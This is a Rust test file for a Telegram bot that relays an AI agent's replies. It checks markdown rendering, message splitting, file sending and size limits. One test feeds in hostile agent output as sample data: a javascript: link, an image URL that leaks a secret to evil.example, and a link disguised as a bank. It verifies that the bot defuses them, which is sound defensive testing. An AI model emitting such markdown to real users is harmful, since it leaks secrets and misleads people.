//! What people get to see: marks, long texts, code, files, and what Telegram refuses (X5, P8).

use cloister_testkit::telegram::{Fault, Seen};
use cloister_testkit::{ModelServer, ModelServerBuilder, Reply};
use serde_json::json;

use crate::streaming::says;
use crate::world::World;

fn units(text: &str) -> usize {
    text.encode_utf16().count()
}

/// An executor does these, one after the other.
fn steps(steps: Vec<Reply>) -> ModelServerBuilder {
    ModelServer::builder().rule(move |received| {
        if !received.tool_names().contains(&"bash") {
            return None;
        }
        let taken = received.messages().iter().filter(|m| m["role"] == "assistant").count();
        Some(steps.get(taken).cloned().unwrap_or_else(|| Reply::text("It is done.")))
    })
}

/// Markdown becomes entities that cover exactly their words, also after characters that take two units.
#[tokio::test]
async fn markdown_becomes_entities() {
    let text = "🦊🦊 **bold 🎉** and *slanted* and `code()` and [a link](https://example.org/a_b?c=d) and \
                ~~gone~~\n\n> quoted words\n\n```rust\nfn main() { /* **not bold** */ }\n```\n\n\
                1. first\n2. second\n\n# Heading";
    let world = World::builder().model(says("show", Reply::text(text))).start().await;
    let (ann, chat) = world.met("ann").await;
    let seen = ann.ask(&chat, "show me", "second").await;
    assert_eq!(seen.marked("italic"), ["slanted"]);
    assert_eq!(seen.marked("code"), ["code()"]);
    assert!(seen.marked("bold").contains(&"bold 🎉".to_owned()), "{:?}", seen.marked("bold"));
    assert_eq!(seen.marked("strikethrough"), ["gone"]);
    let link = seen.entities.iter().find(|entity| entity["type"] == "text_link").unwrap();
    assert_eq!(link["url"], "https://example.org/a_b?c=d");
    let code = seen.entities.iter().find(|entity| entity["type"] == "pre").unwrap();
    assert_eq!(code["language"], "rust");
    assert_eq!(seen.marked("pre"), ["fn main() { /* **not bold** */ }"]);
    assert!(seen.marked("blockquote").iter().any(|quote| quote.contains("quoted words")));
    assert!(seen.text.contains("1. first") && seen.text.contains("2. second"), "{}", seen.text);
    assert!(!seen.text.contains("**bold"), "no marks are left: {}", seen.text);
}

/// What is longer than a message becomes several, whole and in order, none above 4,096 units, broken at a good
/// place; code that is longer than a message stays code in each.
#[tokio::test]
async fn a_long_answer_is_whole() {
    let paragraph = |n: usize| format!("Paragraph {n} 🎉.{}", " Some **words** of it.".repeat(12));
    let mut parts: Vec<String> = (0..24).map(paragraph).collect();
    let lines: Vec<String> =
        (0..120).map(|n| format!("    let line_{n} = \"some code of it\";")).collect();
    parts.insert(12, format!("```rust\n{}\n```", lines.join("\n")));
    let text = parts.join("\n\n");
    let world = World::builder().model(says("tell me all", Reply::text(text))).start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "tell me all");
    ann.wait_for_words(&chat, "Paragraph 23 ").await;
    let told: Vec<Seen> =
        ann.heard(&chat).into_iter().filter(|s| s.text.contains("of it")).collect();
    assert!(told.len() >= 3, "{} messages", told.len());
    for seen in &told {
        assert!(units(&seen.text) <= 4_096, "{} units", units(&seen.text));
        assert!(!seen.text.contains("**") && !seen.text.contains("```"), "{}", seen.text);
    }
    let whole: String = told.iter().map(|seen| seen.text.as_str()).collect::<Vec<_>>().join("\n");
    let mut last = 0;
    for n in 0..24 {
        let at = whole.find(&format!("Paragraph {n} ")).unwrap_or_else(|| panic!("{n} is lost"));
        assert!(at >= last, "{n} is out of order");
        last = at;
    }
    let code: String =
        told.iter().flat_map(|seen| seen.marked("pre")).collect::<Vec<_>>().join("\n");
    for n in 0..120 {
        assert_eq!(code.matches(&format!("line_{n} =")).count(), 1, "line {n} of the code");
    }
    assert_eq!(whole.matches("Paragraph 7 ").count(), 1, "nothing is there twice");
}

/// One message of exactly the most that fits, one unit more, and text of characters that take two units.
#[tokio::test]
async fn the_limit_is_counted_in_utf16() {
    let fox = "🦊".repeat(2_048);
    let model = says("exactly", Reply::text(fox.clone())).when(
        cloister_testkit::Matcher::last_user_contains("one more"),
        Reply::text(format!("{fox}x")),
    );
    let world = World::builder().model(model).start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "exactly");
    ann.wait_for_text(&chat, &fox).await;
    let before = ann.heard(&chat).len();
    ann.say(&chat, "one more");
    ann.wait_for(&chat, "the end", |seen| seen.text.ends_with('x')).await;
    let told: Vec<Seen> = ann.heard(&chat).into_iter().skip(before).collect();
    assert_eq!(told.len(), 2, "two messages");
    let whole: String = told.iter().map(|seen| seen.text.as_str()).collect();
    assert_eq!(whole, format!("{fox}x"));
}

/// Telegram refuses the marks: the words arrive without them.
#[tokio::test]
async fn what_can_not_be_marked_is_said_plainly() {
    let world = World::builder().model(says("show", Reply::text("**bold** words"))).start().await;
    let (ann, chat) = world.met("ann").await;
    let refused = "Bad Request: can't parse entities: entity offset is wrong".to_owned();
    world.telegram.lay_times("sendMessage", Fault::Refuse { code: 400, description: refused }, 1);
    let seen = ann.ask(&chat, "show me", "bold").await;
    assert!(seen.entities.is_empty());
    assert!(seen.text.contains("bold") && seen.text.contains("words"), "{}", seen.text);
    assert_eq!(world.telegram.pending(), 0);
    let sent = world.telegram.calls("sendMessage");
    assert!(sent.iter().all(|call| call.params.get("parse_mode").is_none()), "entities alone");
}

/// What an agent writes can't ring, load, or lead somewhere else than it says.
#[tokio::test]
async fn text_of_an_agent_is_harmless() {
    let evil = "[bank](javascript:alert(1)) ![cat](https://evil.example/leak?q=secret) <b>not bold</b> \
                [https://bank.example](https://evil.example/) tg://resolve?domain=evil";
    let world = World::builder().model(says("be evil", Reply::text(evil))).start().await;
    let (ann, chat) = world.met("ann").await;
    let seen = ann.ask(&chat, "be evil", "not bold").await;
    let links: Vec<&str> = seen.entities.iter().filter_map(|e| e["url"].as_str()).collect();
    assert!(links.iter().all(|url| url.starts_with("https://")), "{links:?}");
    assert!(!seen.text.contains("<b>") || seen.marked("bold").is_empty());
    // Where a link says that it leads elsewhere, it says where it leads.
    assert!(seen.text.contains("evil.example"), "{}", seen.text);
    for call in world.telegram.calls("sendMessage") {
        let preview = &call.params["link_preview_options"]["is_disabled"];
        assert_eq!(*preview, json!(true), "nothing is loaded: {}", call.params);
    }
}

/// P8: files are sent as what they are; a picture as a picture, everything else as a document, with its bytes
/// and its name.
#[tokio::test]
async fn files_arrive_as_what_they_are() {
    let png = "printf '\\x89PNG\\r\\n\\x1a\\n0000IHDRpicture' > plot.png; printf 'a,b\\n1,2\\n' > data.csv";
    let model = steps(vec![
        Reply::tool_call("bash", json!({"command": png})),
        Reply::tool_call("send_file", json!({"path": "data.csv"})),
        Reply::tool_call("send_file", json!({"path": "plot.png"})),
    ]);
    let world = World::builder().model(model).start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "run: plot");
    let file = |name: &'static str| {
        move |seen: &Seen| seen.file.as_ref().is_some_and(|file| file.name == name)
    };
    let csv = ann.wait_for(&chat, "data.csv", file("data.csv")).await.file.unwrap();
    assert_eq!((csv.kind.as_str(), &csv.bytes[..]), ("document", &b"a,b\n1,2\n"[..]));
    let png = ann.wait_for(&chat, "plot.png", file("plot.png")).await.file.unwrap();
    assert_eq!(png.kind, "photo");
    assert!(png.bytes.starts_with(b"\x89PNG"));
}

/// What is named a picture and is none is refused by Telegram as one, and arrives as a document.
#[tokio::test]
async fn what_is_no_picture_arrives_as_a_document() {
    let model = steps(vec![
        Reply::tool_call("bash", json!({"command": "echo no picture > fake.png"})),
        Reply::tool_call("send_file", json!({"path": "fake.png"})),
    ]);
    let world = World::builder().model(model).start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "run: fake");
    let seen = ann.wait_for(&chat, "the file", |seen| seen.file.is_some()).await;
    assert_eq!(seen.file.unwrap().kind, "document");
    assert_eq!(ann.heard(&chat).iter().filter(|seen| seen.file.is_some()).count(), 1);
}

/// P8: what is too large is named with the limit, and nothing is sent of it.
#[tokio::test]
async fn a_file_that_is_too_large_is_named() {
    let model = steps(vec![
        Reply::tool_call("bash", json!({"command": "head -c 3000000 /dev/zero > big.bin"})),
        Reply::tool_call("send_file", json!({"path": "big.bin"})),
    ]);
    let world = World::builder().model(model).config("max_file_mb = 2", "").start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "run: big");
    let told = ann.wait_for_words(&chat, "big.bin").await;
    assert!(told.text.contains("2.0 MB"), "{}", told.text);
    assert!(ann.heard(&chat).iter().all(|seen| seen.file.is_none()));
}

/// W7: when a task in the background ends, the person is told, where they were.
#[tokio::test]
async fn the_end_of_a_task_is_told() {
    let world = World::start().await;
    let (ann, chat) = world.met("ann").await;
    ann.say(&chat, "run: echo the cake is ready");
    ann.wait_for_words(&chat, "the cake is ready").await;
    ann.wait_for_words(&chat, "report:").await;
}
